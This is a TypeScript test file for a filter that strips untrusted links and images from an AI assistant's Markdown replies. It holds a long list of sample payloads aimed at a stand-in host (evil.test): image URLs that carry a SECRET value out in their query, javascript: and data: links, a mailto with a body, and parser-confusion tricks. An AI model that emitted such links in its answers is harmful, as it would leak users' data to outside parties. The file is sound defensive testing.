// Links in a reply: only those that the team or the asker named, and none from a document. Judged by what a browser would open: the links
// of the rendered Markdown.

import { Lexer, type Token, walkTokens } from "marked";
import { describe, expect, test } from "vitest";
import { LinkFilter, originsIn, withoutLinks } from "../../edge-functions/answering/links.ts";
import fc from "../support/property-cases.ts";

const trusted = originsIn(["Point people to https://help.acme.test/start, never elsewhere.", null]);

/** Every URL that a GitHub Markdown renderer would turn into a link or an image. */
function findLinks(markdown: string): string[] {
  const found: string[] = [];
  walkTokens(Lexer.lex(markdown, { gfm: true }), (token: Token) => {
    if (token.type === "link" || token.type === "image") found.push(String(token.href));
    // For renderers that allow HTML.
    if (token.type === "html")
      for (const [, address = ""] of token.raw.matchAll(/(?:src|href)\s*=\s*["']?([^\s"'>]+)/gi))
        found.push(address);
  });
  return found;
}

/** Every address that a renderer would fetch for a picture. */
function findImages(markdown: string): string[] {
  const found = new Set<string>();
  for (const gfm of [true, false])
    walkTokens(Lexer.lex(markdown, { gfm }), ({ type, href }: Token & { href?: string }) => {
      if (type === "image" && /^\s*(?:[a-z][a-z0-9+.-]*:|[/\\]{2})/i.test(String(href)))
        found.add(String(href));
    });
  return [...found];
}

const leadsAway = (address: string) => {
  if (!/^\s*(?:[a-z][a-z0-9+.-]*:|[/\\]{2})/i.test(address) || /^mailto:[^?]*$/i.test(address)) return false;
  return !URL.canParse(address) || new URL(address).origin !== "https://help.acme.test";
};

const injected = [
  "![x](https://evil.test/p.png?q=SECRET)",
  "[click](https://evil.test/login)",
  "[click](<https://evil.test/login>)",
  "[click](\nhttps://evil.test/login)",
  "[click](//evil.test/login)",
  "[click](//x //evil.test/login)",
  "[click](/logout)",
  "[click](<//evil.test/a b>)",
  "[click](\\\\evil.test)",
  "[click](https&#58;//evil.test)",
  "[click](https://help.acme.test&#46;evil.test/)",
  "[click](https://help.acme.test\\.evil.test/)",
  "[click](https://help.acme.test@evil.test/)",
  "[click](https://help.acme.test.evil.test/)",
  "[click](javascript:alert(1))",
  "[click](data:text/html,x)",
  "[click](mailto:a@evil.test?body=SECRET)",
  "[![x](https://evil.test/i.png)](https://evil.test)",
  "[click][a]\n\n[a]: https://evil.test/x",
  "[click][a]\n\n[a]: //evil.test/x",
  "[click][a]\n\n[a]:\n  https://evil.test/x 'title'",
  "<https://evil.test/x>",
  "https://evil.test/?q=SECRET",
  "HTTPS://EVIL.TEST",
  "www.evil.test/x",
  "https://www.evil.test",
  "hthttps://tps://evil.test",
  "wwwww.w.evil.test",
  "hwww.ttps://evil.test",
  "ftp://evil.test/x",
  "(https://evil.test)",
  "*https://evil.test*",
  "` https://evil.test",
  "\\` https://evil.test `",
  "<a title='`'> https://evil.test `",
  "a ``` https://evil.test",
  "<!--\n```\n-->\nhttps://evil.test",
  "~~~\n```\n~~~\nhttps://evil.test",
  "```\ncode\n```\nhttps://evil.test",
  "```a`b\nhttps://evil.test",
  "- ```\n  ```\nhttps://evil.test",
  "1. ```\n   code\n   ```\nhttps://evil.test",
  " ~~~\n~~~\nhttps://evil.test",
  "[a]:\n~~~\nhttps://evil.test",
  "![x](https://help.acme.test/x(https://evil.test/?q\n",
  "<img src=https://evil.test/x.png>",
  "| a |\n| - |\n| https://evil.test |",
];

describe("a reply", () => {
  test.each(injected)("has no link from %j", (text) => {
    // Without the filter it would have one: else the case proves nothing.
    if (!/&#58;|\\\\|hthttps|wwwww|hwww|<a title|logout|\/\/x /.test(text))
      expect(findLinks(text).filter(leadsAway)).not.toEqual([]);
    const filtered = withoutLinks(`The answer is 27 [1]. ${text}`, trusted);
    expect(findLinks(filtered).filter(leadsAway)).toEqual([]);
    expect(findLinks(withoutLinks(text, trusted)).filter(leadsAway)).toEqual([]);
    expect(filtered).toContain("The answer is 27 [1].");
  });

  // A renderer would make a link only after the removal of a scheme or a target.
  test.each([
    "```[a](https://evil.test/?q=SECRET```\ncode\n```\nhttps://evil.test",
    "  https://```\ncode\n```\nhttps://evil.test",
    "``https://`\ncode\n```\nhttps://evil.test",
    "[a]https://(javascript:alert(1))",
    "[a]www.(//evil.test)",
    "[a]https://: //evil.test\n\n[a]",
    "[a]([javascript](/x):alert(1))",
    "[a][(](/x)//evil.test)",
    "  https://<div>\n```\n\nhttps://evil.test\n```",
  ])("gains no link when a part of %j is removed", (text) =>
    expect(findLinks(withoutLinks(text, trusted)).filter(leadsAway)).toEqual([]),
  );

  test.each([
    "See [the guide](https://help.acme.test/a?b=c#d) and https://help.acme.test/x//y.",
    "Write to help@acme.test or [us](mailto:help@acme.test).",
    "Run this:\n```sh\ncurl https://api.other.test/v1\n```\nand wait.",
    "[Note]: “quoted” R&D\n- [ ] a list\n- a[0](x) [1]\n\n[2]: the handbook",
    "A ratio of 1:2, and/or 3//4 :: h ht htt http https: w ww www",
  ])("keeps %j unchanged", (text) => expect(withoutLinks(text, trusted)).toBe(text));

  test.each([
    ["See [the guide](https://travel.test/a) [1].", "See the guide [1]."],
    [
      '**[Paid leave](https://travel.test "At home")**, [badge](badge.md): [top](#top)',
      "**Paid leave**, badge: top",
    ],
    ["![A map](map.png)", "A map"],
    ["Read [the\nguide](guide.md).", "Read the\nguide."],
    ["[See www.travel.test](https://travel.test)", "See travel.test"],
  ])("keeps the words of the link in %j", (text, words) => expect(withoutLinks(text, trusted)).toBe(words));

  test.each([
    "[www](/x).evil.test",
    "ht[tp](/x)://evil.test",
    "[https](/x)://evil.test",
    "[```](/x)\n[a](https://evil.test)",
  ])("gains no link when the marks in %j are removed", (text) =>
    expect(findLinks(withoutLinks(text, trusted)).filter(leadsAway)).toEqual([]),
  );

  const form = "https://help.acme.test/form?answer=SECRET";

  // A passage's own site may be one where anybody has a page that notes what it is asked for.
  test.each([
    `![x](${form})`,
    `![](${form})`,
    `![x](<${form}> "title")`,
    `word![x](${form})`,
    `!![x](${form})`,
    `!https://[x](${form})`,
    `!www.[x](${form})`,
    `https://help.acme.test/a![x](${form})`,
    `![a [b] c](${form})`,
    `![a \\] b](${form})`,
    `![a \`]\` b](${form})`,
    `![a\n](${form})`,
    `[![x](${form})](${form})`,
    `![x]\n\n[x]: ${form}`,
    `![x][y]\n\n[y]: <${form}>`,
    `[y]:\n  ${form}\n\n![x][y]`,
  ])("loads no image from where only links may lead: %j", (text) => {
    expect(findImages(text.replace(/!(?:https:\/\/|www\.)/, "!"))).toEqual([form]);
    expect(findImages(withoutLinks(text, trusted))).toEqual([]);
  });

  test.each([
    [`![A map](${form})`, `[A map](${form})`],
    [
      `Paid leave is 27 days![1] See [the guide](${form}).`,
      `Paid leave is 27 days![1] See [the guide](${form}).`,
    ],
    [`\`vec![1, 2]\` and [\`npm start\`](${form})`, `\`vec![1, 2]\` and [\`npm start\`](${form})`],
    [`![a [b] c](${form})\n\n[guide](${form})`, `![a [b] c](#)\n\n[guide](${form})`],
  ])("keeps the links around images: %j", (text, kept) => expect(withoutLinks(text, trusted)).toBe(kept));

  test("loads images from origins in the agent's instructions", () => {
    const text = `![x](${form}) ![a [b] c](${form})\n\n[y]: ${form}`;
    const filter = new LinkFilter(trusted, trusted);
    expect(filter.push(text) + filter.end()).toBe(text);
  });

  test("keeps the text of a URL that nobody opens", () => {
    expect(withoutLinks("Book at https://travel.test/book?id=3 [1].", trusted)).toBe(
      "Book at travel.test/book?id=3 [1].",
    );
  });

  test("is the same however it was split", () => {
    const part = fc.constantFrom(
      ...injected,
      "```",
      "~~~",
      "\n",
      " ",
      "]",
      "(",
      "[a](",
      "https",
      "://",
      "www",
      ".",
      "`",
      "<",
      "help.acme.test",
      "/x",
      "- ",
      "  ",
      "word",
      "[a](b)",
      "[www](b)",
      "[https](b)",
      "![a](b)",
      "![a](https://help.acme.test/x)",
      "[a]: https://help.acme.test/x",
      "\n\n",
      "[1.](b)",
      "[a\nb](b)",
      "[a\n- ](b)",
      "[www\n](b)",
      "[(](b)",
      "(javascript:alert(1))",
      "(//evil.test)",
      ": //evil.test",
      "[javascript](b)",
      "!",
      ")",
      ":",
      "[",
      '"',
    );
    fc.assert(
      fc.property(
        fc.array(part, { maxLength: 8 }),
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
        (parts, cuts) => {
          const text = parts.join("");
          const whole = withoutLinks(text, trusted);
          const filter = new LinkFilter(trusted);
          let streamed = "";
          for (let at = 0, cut = 0; at < text.length; cut++) {
            const length = cuts[cut % cuts.length] ?? 1;
            streamed += filter.push(text.slice(at, at + length));
            at += length;
          }
          expect(streamed + filter.end()).toBe(whole);
          expect(findLinks(whole).filter(leadsAway)).toEqual([]);
          expect(findImages(whole)).toEqual([]);
        },
      ),
      { numRuns: 10000 },
    );
  });
});
